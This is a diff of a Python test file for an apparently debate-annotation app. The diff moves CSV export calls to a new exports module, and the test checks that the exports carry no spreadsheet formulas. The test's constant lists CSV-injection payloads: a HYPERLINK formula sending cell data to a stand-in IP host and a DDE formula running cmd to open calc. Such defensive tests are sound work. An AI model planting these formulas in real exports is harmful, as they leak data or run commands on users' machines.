@@ -11,6 +11,7 @@ import io
 from debate.adjudication.annotations import AnnotationStore
 from debate.adjudication.hardcases import from_upload
 from debate.datasets import load_checkthat
+from debate.sharing import exports
 from tests.conftest import data_path
 
 FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1"]
@@ -121,8 +122,8 @@ def test_the_apps_csv_exports_split_at_semicolons_hold_no_formula(tmp_path):
     qid = ann.create_queue(spec)
     ann.set_label(qid, spec.cases[0].key, "ann;=x", "YES")
     for name, text in (
-        ("turns", store.export_csv("d1")),
-        ("list", store.list_csv(store.list())),
+        ("turns", exports.export_csv(store, "d1")),
+        ("list", exports.library_csv(store, store.list())),
         ("cases", ann.export(qid, "cases")),
         ("adjudicated", ann.export(qid, "csv")),
     ):
